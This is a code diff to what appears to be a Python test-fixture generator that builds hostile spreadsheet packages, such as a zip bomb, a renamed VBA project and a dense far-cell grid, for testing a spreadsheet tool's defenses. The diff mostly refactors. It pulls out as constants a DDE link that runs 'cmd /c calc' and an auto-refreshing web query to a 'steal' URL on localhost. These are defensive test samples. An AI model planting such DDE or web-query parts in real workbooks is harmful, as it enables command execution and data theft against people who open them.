@@ -19,6 +19,8 @@ from dataclasses import dataclass
 from pathlib import Path
 from xml.sax.saxutils import escape
 
+from openpyxl.utils import get_column_letter
+
 MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
 REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
 PKG_REL = "http://schemas.openxmlformats.org/package/2006/relationships"
@@ -180,7 +182,7 @@ def zip_bomb(d: Path) -> Path:
 
 def far_cells(d: Path) -> Path:
     """A cell in every column of the last row: a dense grid of 1.7e10 cells if materialised."""
-    cells = [cell(f"{_col(c)}1048576", 1) for c in range(1, 16385)]
+    cells = [cell(f"{get_column_letter(c)}1048576", 1) for c in range(1, 16385)]
     cells.append(cell("A1", f="SUM(A1048576:XFD1048576)"))
     return package(d / "far_cells.xlsx", sheet(*cells, before='<dimension ref="A1:XFD1048576"/>'))
 
@@ -454,46 +456,55 @@ def comment_hides_cf(d: Path) -> Path:
     return package(d / "comment_cut.xlsx", sheet(*_OK_CELLS).replace("</sheetData>", "</sheetData>" + cf))
 
 
+#: a DDE external link and a web-query data connection, the parts two renamed cases hide
+DDE_LINK = (
+    f'{XML_DECL}<externalLink xmlns="{MAIN}"><ddeLink ddeService="cmd" ddeTopic="/c calc">'
+    '<ddeItems><ddeItem name="A0"/></ddeItems></ddeLink></externalLink>'
+)
+WEB_QUERY = (
+    f'{XML_DECL}<connections xmlns="{MAIN}"><connection id="1" name="q" type="4" refreshOnLoad="1">'
+    '<webPr url="http://127.0.0.1:9/steal"/></connection></connections>'
+)
+
+
+def _renamed(path: Path, member: str, data: bytes, kind: str, rel_id: str, **kw) -> Path:
+    """A package of the harmless cells with one more part, ``member`` (under xl/), under a name
+    that does not say what it is: only its content type and its relationship (``rel_id``) do, both
+    of ``kind`` (an OOXML part type such as "externalLink"), unless ``content_type`` and
+    ``rel_type`` are given."""
+    content_type = kw.pop("content_type", _CT + kind + "+xml")
+    rels = ((rel_id, kw.pop("rel_type", kind), member.removeprefix("xl/")),)
+    return package(
+        path,
+        sheet(*_OK_CELLS),
+        extra={member: data},
+        overrides=(("/" + member, content_type),),
+        rels=rels,
+        **kw,
+    )
+
+
 def dde_link_renamed(d: Path) -> Path:
     """A DDE external link stored as xl/misc/data1.xml, found only by its relationship and type."""
-    link = (
-        f'{XML_DECL}<externalLink xmlns="{MAIN}"><ddeLink ddeService="cmd" ddeTopic="/c calc">'
-        '<ddeItems><ddeItem name="A0"/></ddeItems></ddeLink></externalLink>'
-    )
-    return package(
-        d / "dde_renamed.xlsx",
-        sheet(*_OK_CELLS),
-        extra={"xl/misc/data1.xml": link.encode()},
-        overrides=(("/xl/misc/data1.xml", _CT + "externalLink+xml"),),
-        rels=(("rId7", "externalLink", "misc/data1.xml"),),
-    )
+    return _renamed(d / "dde_renamed.xlsx", "xl/misc/data1.xml", DDE_LINK.encode(), "externalLink", "rId7")
 
 
 def vba_renamed(d: Path) -> Path:
     """A VBA project stored as xl/stuff.dat, found by its relationship and content type."""
-    return package(
+    return _renamed(
         d / "vba_renamed.xlsm",
-        sheet(*_OK_CELLS),
-        macro=False,
-        extra={"xl/stuff.dat": VBA_BYTES},
-        overrides=(("/xl/stuff.dat", "application/vnd.ms-office.vbaProject"),),
-        rels=(("rId8", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "stuff.dat"),),
+        "xl/stuff.dat",
+        VBA_BYTES,
+        "vbaProject",
+        "rId8",
+        content_type="application/vnd.ms-office.vbaProject",
+        rel_type="http://schemas.microsoft.com/office/2006/relationships/vbaProject",
     )
 
 
 def web_query_renamed(d: Path) -> Path:
     """A web-query data connection stored as xl/misc/c.xml."""
-    conn = (
-        f'{XML_DECL}<connections xmlns="{MAIN}"><connection id="1" name="q" type="4" refreshOnLoad="1">'
-        '<webPr url="http://127.0.0.1:9/steal"/></connection></connections>'
-    )
-    return package(
-        d / "webquery_renamed.xlsx",
-        sheet(*_OK_CELLS),
-        extra={"xl/misc/c.xml": conn.encode()},
-        overrides=(("/xl/misc/c.xml", _CT + "connections+xml"),),
-        rels=(("rId9", "connections", "misc/c.xml"),),
-    )
+    return _renamed(d / "webquery_renamed.xlsx", "xl/misc/c.xml", WEB_QUERY.encode(), "connections", "rId9")
 
 
 def case_duplicates(d: Path) -> Path:
@@ -815,14 +826,6 @@ BOMBS = {
     "product_bomb": (product_bomb, ["recalc", "--check"], "budget max_array_cells"),
     "deep_spec": (deep_spec, ["scenarios", "-o", "{tmp}/s.xlsx"], "budget max_spec_depth"),
 }
-
-
-def _col(n: int) -> str:
-    s = ""
-    while n:
-        n, rem = divmod(n - 1, 26)
-        s = chr(65 + rem) + s
-    return s
 
 
 @dataclass(frozen=True)
